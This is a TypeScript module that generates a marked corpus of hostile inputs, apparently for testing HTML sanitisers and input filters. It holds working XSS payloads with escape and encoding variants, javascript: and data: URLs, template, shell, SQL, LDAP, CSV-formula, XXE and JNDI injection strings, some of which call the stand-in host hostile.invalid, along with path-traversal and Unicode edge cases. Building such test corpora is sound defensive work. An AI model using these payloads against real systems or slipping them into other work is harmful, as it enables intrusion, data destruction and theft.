/**
 * Texts that somebody types, or hides in a file, so that something happens that should not: a script runs, another machine
 * is asked, a sentence is filled in, a name breaks what keeps it. Made here from what such texts are made of, in the manner
 * of the lists that filters of markup and forms are tried with. Each holds a mark of its own, by which it is found again
 * wherever it is shown. A script among them calls `alert`; an address among them is below `hostile.invalid`.
 */

/** The mark of the nth text: what a person would see of it whatever becomes of the rest. */
export const markOf = (n: number): string => `q${n}q`;

type Make = (mark: string) => string;

const elsewhere = (mark: string, kind = 'p'): string => `http://hostile.invalid/${kind}-${mark}`;

/** Each runs a script or asks another machine as soon as it is markup. */
const live: readonly Make[] = [
  (m) => `<script>alert('${m}')</script>`,
  (m) => `<script src=${elsewhere(m, 's.js')}></script>`,
  (m) => `<img src=x onerror=alert('${m}')>`,
  (m) => `<img src=${elsewhere(m, 'i.png')}>`,
  (m) => `<img srcset="${elsewhere(m, 'set.png')} 1x">`,
  (m) => `<svg onload=alert('${m}')></svg>`,
  (m) => `<svg><script>alert('${m}')</script></svg>`,
  (m) => `<svg><animate onbegin=alert('${m}') attributeName=x dur=1s></animate></svg>`,
  (m) => `<svg><image href="${elsewhere(m, 'svg.png')}"></image></svg>`,
  (m) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x">${m}</use></svg>`,
  (m) => `<body onload=alert('${m}')>`,
  (m) => `<video src=x onerror=alert('${m}')></video>`,
  (m) => `<video poster=${elsewhere(m, 'poster.png')}></video>`,
  (m) => `<audio src=${elsewhere(m, 'a.mp3')} autoplay onerror=alert('${m}')></audio>`,
  (m) => `<video><source onerror="alert('${m}')"></video>`,
  (m) => `<input autofocus onfocus=alert('${m}')>`,
  (m) => `<textarea autofocus onfocus=alert('${m}')></textarea>`,
  (m) => `<details open ontoggle=alert('${m}')><summary>${m}</summary></details>`,
  (m) => `<marquee onstart=alert('${m}')>${m}</marquee>`,
  (m) => `<iframe srcdoc="<script>parent.alert('${m}')</script>"></iframe>`,
  (m) => `<iframe src="javascript:alert('${m}')"></iframe>`,
  (m) => `<iframe src=${elsewhere(m, 'frame')}></iframe>`,
  (m) => `<object data=${elsewhere(m, 'object')}></object>`,
  (m) => `<embed src=${elsewhere(m, 'embed')}>`,
  (m) => `<link rel=stylesheet href=${elsewhere(m, 'l.css')}>`,
  (m) => `<link rel=prefetch href=${elsewhere(m, 'prefetch')}>`,
  (m) => `<style>@import '${elsewhere(m, 'import.css')}';</style>`,
  (m) => `<p style="background:url(${elsewhere(m, 'background.png')})">${m}</p>`,
  (m) => `<p style="animation:x" onanimationend=alert('${m}') onanimationstart=alert('${m}')>${m}</p>`,
  (m) => `<base href="${elsewhere(m, 'base')}/"><img src=relative.png>`,
  (m) => `<meta http-equiv=refresh content="0;url=${elsewhere(m, 'refresh')}">`,
  (m) => `<form action=${elsewhere(m, 'form')}><button autofocus onfocus=this.click()>${m}</button></form>`,
  (m) => `<a href="javascript:alert('${m}')" autofocus onfocus=alert('${m}') tabindex=1>${m}</a>`,
  (m) => `<a ping=${elsewhere(m, 'ping')} href=#>${m}</a>`,
  (m) => `<select autofocus onfocus=alert('${m}')><option>${m}</select>`,
  (m) => `<x-${m} tabindex=1 autofocus onfocus=alert('${m}')>`,
  (m) => `<math><mtext><table><mglyph><style><img src=x onerror=alert('${m}')></style></table></mtext></math>`,
  (m) => `<noscript><p title="</noscript><img src=x onerror=alert('${m}')>"></noscript>`,
  (m) => `<svg></p><style><a id="</style><img src=x onerror=alert('${m}')>"></svg>`,
  (m) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert('${m}')></form>`,
  (m) => `<template><script>alert('${m}')</script></template><img src=x onerror=alert('${m}')>`,
  (m) => `<xmp><p title="</xmp><img src=x onerror=alert('${m}')>"></xmp>`,
  (m) => `<table background=${elsewhere(m, 'table.png')}><td>${m}</td></table>`,
  (m) => `<img/src="x"/onerror="alert('${m}')"//`,
];

/** What closes the place in which a text stands, before it becomes markup. */
const escapes: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `-->]]>${text}<!--`,
  (text) => `*/</style>${text}/*`,
  (text) => text.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll(' ', '\t'),
];

/** Addresses that run or fetch something where a text becomes a link or the source of something. */
const addresses: readonly Make[] = [
  (m) => `javascript:alert('${m}')`,
  (m) => `JaVaScRiPt:alert('${m}')`,
  (m) => `  javascript:alert('${m}')`,
  (m) => `java\tscript:alert('${m}')`,
  (m) => `javascript://%0aalert('${m}')`,
  (m) => `data:text/html,<script>alert('${m}')</script>`,
  (m) => `data:image/svg+xml,<svg onload=alert('${m}')>`,
  (m) => `vbscript:msgbox("${m}")`,
  (m) => `file:///etc/passwd#${m}`,
  (m) => `//hostile.invalid/${m}`,
  (m) => `\\\\hostile.invalid\\share\\${m}`,
  (m) => `https://hostile.invalid/${m}?a=1&b=2`,
  (m) => `blob:https://hostile.invalid/${m}`,
  (m) => `app://waymark/../../${m}`,
  (m) => `mailto:${m}@hostile.invalid?body=%0d%0aBcc:x`,
  (m) => `http://127.0.0.1:1/${m}`,
  (m) => `[${m}](javascript:alert('${m}'))`,
  (m) => `![${m}](${elsewhere(m, 'markdown.png')})`,
  (m) => `<${elsewhere(m, 'autolink')}>`,
];

/** What would be filled in, carried out or read as a command by something on the way. */
const commands: readonly Make[] = [
  ...[
    '{{x}}',
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{% raw %}',
    '[[x]]',
  ],
  ...['$t(frame:product)', '{{count}}', '{0}', '%s%n%x', '$&$1$`', '{page}', '{=SUM(1)}', '@@x@@', '{{#with}}'],
  ...[
    '${jndi:ldap://hostile.invalid/a}',
    '$(touch /tmp/hostile)',
    '`touch /tmp/hostile`',
    '; rm -rf ~ #',
    '| cat',
    '&& ver',
  ],
  ...[
    "' OR '1'='1",
    "'; DROP TABLE log;--",
    '" OR ""="',
    "admin'--",
    '*)(uid=*))(|(uid=*',
    '{"$gt": ""}',
    '1;SELECT 1',
  ],
  ...[
    '=HYPERLINK("http://hostile.invalid","x")',
    '=cmd|"/C calc"!A0',
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '=IMPORTXML("http://hostile.invalid","//a")',
  ],
  ...[
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://hostile.invalid/x">]><x>&e;</x>',
    '<!ENTITY a "&b;">',
    '<?php x ?>',
  ],
  ...[
    '{ DDEAUTO c:\\windows\\system32\\cmd.exe }',
    'INCLUDETEXT "http://hostile.invalid"',
    '<w:p/>',
    '</w:t></w:r><w:r>',
    ']]><x/>',
  ],
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/dev/null',
    'CON',
    'nul.txt',
    'a:b',
    '~root',
    'C:\\',
    'x\u2028y',
    '%2e%2e%2f',
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'then',
    'key',
    'ref',
  ],
  ...[
    'undefined',
    'null',
    'NULL',
    'NaN',
    'Infinity',
    'true',
    '0',
    '-0',
    '1e309',
    '0x10',
    '1_000',
    '00',
    '9007199254740993',
    '[object Object]',
  ],
  ...[
    '!!js/function x',
    '*alias',
    '&anchor',
    '- item',
    '? key',
    '| block',
    '> fold',
    '%YAML 9.9',
    '--- x',
    '<<: *x',
    'y: z: w',
    '# comment',
  ],
].map((text) => (m: string) => `${text} ${m}`);

/** Letters that break rows of letters: writing from the right, marks upon marks, widths, pictures, what nobody sees. */
const letters: readonly Make[] = [
  ...[
    '\u202Egnp.exe\u202C',
    '\u2066isolated\u2069',
    '\u200F\u200E',
    '\u061C',
    '\uFEFF',
    '\u200B\u200C\u200D',
    '\u00AD',
    '\u180E',
    '\u2060',
  ],
  ...[
    'Z\u0335\u0321\u034Aa\u0334\u0322l\u0337\u0355g\u0336\u0315o\u0338'.repeat(8),
    '\u0300'.repeat(60),
    'ﷺ﷽',
    '𒐫'.repeat(4),
    '꧅',
  ],
  ...[
    '😀🏳️‍🌈👨‍👩‍👧‍👦🇺🇳',
    '☃\uFE0F',
    '🤷🏽‍♀️',
    '\u{1F468}\u200D',
    '\u{E0041}\u{E007F}',
    '\u{10FFFF}',
    '\uFFFD',
    '\uFFFC',
    '\u2029',
    '\u0085',
  ],
  ...[
    'ثم نفس سقطت وبالتحديد',
    'הָיְתָה test الصفحات',
    '田中さんにあげて下さい',
    '서울',
    'ЁЂЃЄ',
    'ﬁ ﬀ',
    'İıſ',
    'ß ẞ',
    'Å Å',
    'ⅷ ①',
    '𝕋𝕙𝕖',
    'ᴛʜᴇ',
  ],
  ...[
    'W'.repeat(300),
    'ab '.repeat(120),
    'ـ'.repeat(100),
    'ൌ'.repeat(40),
    '„“”’‚«»',
    '\\',
    '"',
    "'",
    '`',
    '<',
    '&',
    '&amp;amp;',
    '&#0;',
    '&nbsp',
    '\t',
  ],
].map((text) => (m: string) => `${text} ${m}`);

const makes: readonly Make[] = [
  ...escapes.flatMap((escape) =>
    live.map(
      (make): Make =>
        (mark) =>
          escape(make(mark)),
    ),
  ),
  ...addresses,
  ...commands,
  ...letters,
];

/** How many of the first are markup as they stand: they must be seen to run where a page is built wrong. */
export const liveCount = live.length;

/** Every text with its mark. */
export const payloads: readonly string[] = makes.map((make, n) => make(markOf(n)));
